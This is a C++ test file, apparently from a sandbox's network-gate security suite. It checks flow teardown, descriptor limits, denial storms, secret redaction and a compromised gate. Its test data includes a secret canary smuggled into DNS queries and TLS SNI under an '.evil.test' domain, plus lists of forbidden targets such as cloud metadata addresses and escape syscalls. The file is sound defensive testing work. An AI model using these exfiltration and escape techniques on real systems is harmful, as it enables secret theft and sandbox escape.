// SPDX-License-Identifier: Apache-2.0
// Rows PK of the threats that are about the gate itself: its end, storms, descriptors, the edges of a cell's life, and
// a gate that was taken over.
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "net_harness.h"

namespace attacks {
namespace {

namespace fs = std::filesystem;
using std::chrono::milliseconds;
using std::chrono::steady_clock;

constexpr char kDns[] = "observability.v1.dns_query", kFlow[] = "observability.v1.network_flow_decision",
               kClosed[] = "observability.v1.network_flow_closed";

// A workload that does not end by itself when its connection does.
constexpr char kHold[] = "hold listen 7009 ms=9000";
constexpr int kIncomplete = 3, kContradiction = 4;  // of cellos verify

class Gate : public NetTest {
 protected:
  Net Document() const {
    NameAt("storm.test", 83);
    return {.rules = {Rule(At(80), 5432, "tcp"), Rule(At(81), 9, "tcp"), Rule("storm.test", 443)},
            .names = {"storm.test"}};
  }
  std::string To(int n) const { return "\"dstAddr\":\"" + At(n) + "\""; }

  // Until the world got bytes for `address`; false after ten seconds.
  bool WaitForBytes(const std::string& address) const {
    for (int i = 0; i < 5000; ++i, ::usleep(2000)) {
      for (const outside::Seen& seen : World().Now().To(address)) {
        if (seen.count > 0) return true;
      }
    }
    return false;
  }
  std::string RunId() const {
    const Words runs = Runs();
    return runs.empty() ? "" : fs::path(runs.back()).filename().string();
  }
  static int Descriptors(pid_t pid) {
    std::error_code error;
    int count = 0;
    for (const auto& entry : fs::directory_iterator("/proc/" + std::to_string(pid) + "/fd", error))
      count += entry.path().empty() ? 0 : 1;
    return error ? -1 : count;
  }
  // A steady flow, an act upon the gate in the middle of it, and the end that follows.
  Trial Interrupted(const std::function<void()>& act, steady_clock::time_point* when, const How& how = {}) {
    World().Forget();
    const Started started = StartTrial(Document(), {"steady steady " + At(80) + " 5432 ms=40000", kHold});
    EXPECT_TRUE(WaitForBytes(At(80)));
    *when = steady_clock::now();
    act();
    return FinishTrial(started, how);
  }
  testing::AssertionResult NothingAfterTheEnd(const Trial& trial, const std::string& address) {
    const std::uint64_t before = trial.outcome.Out(address);
    ::usleep(300'000);  // what was on its way would have come
    const std::uint64_t after = World().Now().Out(address);
    if (before == after) return testing::AssertionSuccess();
    return testing::AssertionFailure() << after - before << " packets after the end";
  }
};

class LongGate : public Gate {};

TEST_P(LongGate, PK08_DescriptorsThatAreSentAreNotKept) {
  World().Forget();
  Net net = Document();
  net.delivery = "runtimeBroker";
  net.authority = R"("secretRefs":["TOKEN"])";
  How how = {.environment = {"CELLOS_SECRET_TOKEN=kanarienvogel-descriptor"}};
  const Started started =
      StartTrial(net,
                 {"first descriptors /run/cellos/secrets/broker.sock count=200", "--", "ready listen 7001 ms=700", "--",
                  "many descriptors /run/cellos/secrets/broker.sock count=10000", "--", "ready2 listen 7002 ms=700",
                  "--", "twin tcp " + At(80) + " 5432 send=hi want=2"},
                 how);
  const auto count_after = [&](const std::string& mark) {
    EXPECT_TRUE(WaitForOutput(mark)) << mark;
    ::usleep(100'000);
    return Descriptors(ProcessNamed("cellos-gate"));
  };
  const int before = count_after("first ");
  const int after = count_after("many ");
  const Trial trial = FinishTrial(started, how);
  EXPECT_TRUE(trial.Said("many").starts_with("sent:10000")) << trial.Said("many");
  EXPECT_GT(before, 0);
  EXPECT_LE(after, before);
  EXPECT_TRUE(Said(trial, "twin", {"data:hi"}));
}

TEST_P(LongGate, PK12_EveryConnectOfACellsLifeHasAVerdict) {
  World().Forget();
  Net net = Document();
  net.run = R"("timeoutMs":1500)";
  const Started started = StartTrial(net, {"loop loop " + At(80) + " 5432 ms=60000"});
  const Trial trial = FinishTrial(started);
  EXPECT_EQ(trial.run.Reason(), "timeout") << trial.run.json;
  const std::uint64_t connections = trial.outcome.To(At(80)).size();
  EXPECT_GT(connections, 0u);
  EXPECT_GE(trial.Sum(kFlow, {"gate_grant_match", To(80)}), connections);
  EXPECT_TRUE(NothingAfterTheEnd(trial, At(80)));
}

TEST_P(Gate, PK13_AFlowEndsWithItsCell) {
  steady_clock::time_point when;
  const Trial trial = Interrupted([this] { EXPECT_EQ(Cellos({"stop", RunId()}).status, 0); }, &when);
  EXPECT_EQ(trial.run.Reason(), "revoked") << trial.run.json;
  EXPECT_LT(trial.outcome.LastOut(At(80)) - when, milliseconds(1000)) << "cellos stop included";
  EXPECT_TRUE(trial.Logged(kClosed, {"\"closedBy\":\"gate\"", "\"reasonCode\":\"gate_revoked\""}));
  EXPECT_TRUE(NothingAfterTheEnd(trial, At(80)));
}

TEST_P(Gate, PK13_AFlowEndsAtTheTtl) {
  World().Forget();
  Net net = Document();
  net.ttl = 2;
  const Trial trial = FinishTrial(StartTrial(net, {"steady steady " + At(80) + " 5432 ms=40000", kHold}));
  EXPECT_EQ(trial.run.Reason(), "ttl_exceeded") << trial.run.json;
  EXPECT_TRUE(trial.Logged(kClosed, {"\"bytesOut\":"}));
  EXPECT_TRUE(NothingAfterTheEnd(trial, At(80)));
}

TEST_P(LongGate, PK17_ACellEndsWithItsGate) {
  for (const int signal : {SIGKILL, SIGSTOP}) {
    steady_clock::time_point when;
    std::uint64_t stopped_at = 0;
    const Trial trial = Interrupted(
        [&] {
          const pid_t gate = ProcessNamed("cellos-gate");
          ASSERT_GT(gate, 0);
          ASSERT_EQ(::kill(gate, signal), 0);
          ::usleep(100'000);  // what was on its way
          stopped_at = World().Now().To(At(80)).at(0).count;
        },
        &when, {.verify = false});
    const auto took = steady_clock::now() - when;
    EXPECT_EQ(trial.run.Reason(), "gate_failed") << strsignal(signal) << trial.run.json;
    EXPECT_EQ(trial.run.status, 137);
    EXPECT_TRUE(trial.Logged("observability.v1.gate_failed", {"\"phase\":\"", "\"reason\":\""}));
    EXPECT_TRUE(trial.Logged("lifecycle.v1.destroyed", {"\"reasonCode\":\"gate_failed\""}));
    EXPECT_EQ(Cellos({"verify", fs::path(trial.run.directory).filename()}).status, kIncomplete)
        << "what the gate did not tell is missing, and said so";
    EXPECT_LT(took, milliseconds(signal == SIGKILL ? 3000 : 7000)) << strsignal(signal);
    EXPECT_EQ(trial.outcome.To(At(80)).at(0).count, stopped_at) << "bytes passed after " << strsignal(signal);
    EXPECT_TRUE(NothingAfterTheEnd(trial, At(80)));
  }
}

TEST_P(LongGate, PK18_AStormOfDenialsIsCountedExactly) {
  World().Forget();
  const Trial trial = TryAll(
      Document(), {"storm storm " + At(99) + " 443 " + Server() + " storm-denied.test connects=3000 queries=20000",
                   "bulk bulk " + At(80) + " 5432 bytes=33554432"});
  EXPECT_TRUE(Said(trial, "bulk", {"bytes:33554432"})) << "a granted flow moves on";
  int connected = 0, refused = 0, failed = 0, asked = 0;
  ASSERT_EQ(std::sscanf(trial.Said("storm").c_str(), "connected:%d,refused:%d,failed:%d,asked:%d", &connected, &refused,
                        &failed, &asked),
            4)
      << trial.Said("storm");
  EXPECT_EQ(failed, 0);
  EXPECT_EQ(connected + refused, 3000);
  EXPECT_EQ(trial.Sum(kFlow, {"\"decision\":\"deny\"", "gate_not_answered"}), 3000u);
  // Datagrams that found a full socket were never asked.
  const std::uint64_t denied = trial.Sum(kDns, {"denied_not_in_allowlist"});
  EXPECT_LE(denied, static_cast<std::uint64_t>(asked));
  EXPECT_GE(denied, static_cast<std::uint64_t>(asked) / 2);
  EXPECT_EQ(trial.outcome.Asked("storm-denied.test"), 0u);
  EXPECT_TRUE(NothingOut(trial, At(99)));
  const auto lines = std::count(trial.run.log.begin(), trial.run.log.end(), '\n');
  EXPECT_LT(lines, 6000) << "denials are summed up";
}

TEST_P(Gate, SE04_ASecretInsideANameIsReplacedInTheRecord) {
  World().Forget();
  const std::string canary = "kanarienvogelseventeen";
  Net net = Document();
  net.authority = R"("secretRefs":["TOKEN"])";
  How how = {.environment = {"CELLOS_SECRET_TOKEN=" + canary}};
  const Trial trial = TryAll(net,
                             {"label dns " + Server() + " " + canary + ".evil.test " + (v6() ? "AAAA" : "A"),
                              "ask dns " + Server() + " storm.test " + (v6() ? "AAAA" : "A"), "--",
                              "sni tls " + At(83) + " 443 sni=" + canary + ".evil.test"},
                             how);
  EXPECT_TRUE(trial.Logged(kDns, {".evil.test", "denied_not_in_allowlist"})) << "the fact stays";
  EXPECT_TRUE(trial.Logged("observability.v1.l7_egress_decision", {".evil.test", "l7_sni_allowlist_miss"}));
  std::string holding;
  for (const std::string& path : Holding(canary)) holding += path + " ";
  EXPECT_EQ(holding, "");
}

// A directory with the program, in which the gate is the twin.
class TakenOver : public Gate {
 protected:
  void SetUp() override {
    Gate::SetUp();
    if (IsSkipped() || HasFailure()) return;
    const std::string bin = OwnDirectory("bin");
    for (const auto& [from, to] : {std::pair{"cellos", "cellos"}, std::pair{"gate_twin", "cellos-gate"}}) {
      std::error_code error;
      fs::copy_file(std::string(CELLOS_BIN_DIR "/") + from, bin + "/" + to, error);
      ASSERT_FALSE(error) << from << " " << error.message();
    }
    UseProgram(bin + "/cellos");
  }
  Net TwinDocument(const std::string& what) const {
    return {.rules = {Rule(At(80), 5432, "tcp"), Rule(At(81), 9, "tcp"), Rule(what + ".twin.test", 443)},
            .names = {what + ".twin.test"}};
  }
};

TEST_P(TakenOver, PK19_TheDiallerRefusesWhatNoRuleGrants) {
  const Trial trial =
      TryAll(TwinDocument("dial"), {"report tcp " + At(80) + " 5432 send=x wait=5000 shown=4000"}, {.verify = false});
  const std::string report = trial.Said("report");
  const auto answer = [&](const std::string& attempt) {
    const auto at = report.find(attempt + "=");
    if (at == report.npos) return "nothing of it in " + report;
    const auto begin = at + attempt.size() + 1;
    return report.substr(begin, report.find(';', begin) - begin);
  };
  for (const char* attempt :
       {"metadata4", "metadata6", "metadata-by-name-rule", "host4", "host6", "loopback4", "loopback6", "mapped",
        "private4", "private6", "other-port", "other-address", "wrong-index", "no-such-index", "udp-of-tcp-rule",
        "resolver-as-flow", "flow-as-resolver", "resolver-other-port"}) {
    EXPECT_EQ(answer(attempt), "EPERM") << attempt;
  }
  EXPECT_EQ(answer("twin-granted"), "0") << "what a rule grants";
  EXPECT_EQ(answer("twin-resolver"), "0");
  for (const char* address : {"169.254.169.254", "fd00:ec2::254", "10.0.0.1", "fd12::1", "203.0.113.99"})
    EXPECT_TRUE(NothingOut(trial, address));
  EXPECT_TRUE(trial.Logged("evidence_log.v1.finding", {"\"verdict\":\"contradiction\""}));
  EXPECT_EQ(Cellos({"verify", fs::path(trial.run.directory).filename()}).status, kContradiction)
      << "flows that the kernel's counters know nothing of";
}

TEST_P(TakenOver, PK19_ALockedGateThatTriesMoreEndsItsCell) {
  Words attempts = {"sendto", "sendmsg", "socket"};
  if (!v6()) {
    for (const char* more :
         {"netlink", "connect", "bind", "dup", "duplicate", "fork", "execute", "code", "trace", "unshare"})
      attempts.push_back(more);
  }
  for (const std::string& attempt : attempts) {
    const Trial trial =
        TryAll(TwinDocument(attempt), {"wakes tcp " + At(80) + " 5432 wait=1500", kHold}, {.verify = false});
    EXPECT_EQ(trial.run.Reason(), "gate_failed") << attempt << " " << trial.run.json;
    EXPECT_TRUE(NothingOut(trial, "203.0.113.99")) << attempt;
  }
}

TEST_P(TakenOver, PK19_AFloodOfRecordsDeafensNobody) {
  World().Forget();
  const How how = {.verify = false};
  const Started started =
      StartTrial(TwinDocument("flood"), {"wakes tcp " + At(80) + " 5432 wait=1500", "hold listen 7009 ms=60000"}, how);
  constexpr std::uintmax_t kFlooded = 4 << 20;
  std::error_code error;
  std::uintmax_t size = 0;
  for (int i = 0; i < 3000 && size < kFlooded; ++i, ::usleep(10'000)) {
    const Words runs = Runs();
    size = runs.empty() ? 0 : fs::file_size(runs.back() + "/events.jsonl", error);
    if (error) size = 0;
  }
  EXPECT_GE(size, kFlooded) << "no flood came";
  EXPECT_EQ(Cellos({"stop", RunId()}).status, 0) << "the supervisor hears, and ends the cell";
  const Trial trial = FinishTrial(started, how);
  EXPECT_EQ(trial.run.Reason(), "revoked") << trial.run.json;
  EXPECT_TRUE(trial.Logged("lifecycle.v1.destroyed", {"\"reasonCode\":\"revoked\""}));
  EXPECT_TRUE(trial.Logged("observability.v1.gate_failed", {"did not tell its totals"}));
  EXPECT_TRUE(NothingOut(trial, At(99)));
  const int verified = Cellos({"verify", fs::path(trial.run.directory).filename()}).status;
  EXPECT_TRUE(verified == kIncomplete || verified == kContradiction) << verified << ": it is no whole account";
}

NET_ATTACK_AS_EVERYBODY(TakenOver);
NET_ATTACK_AS_EVERYBODY(Gate);
NET_ATTACK_IN_TWO_WAYS(LongGate);

}  // namespace
}  // namespace attacks
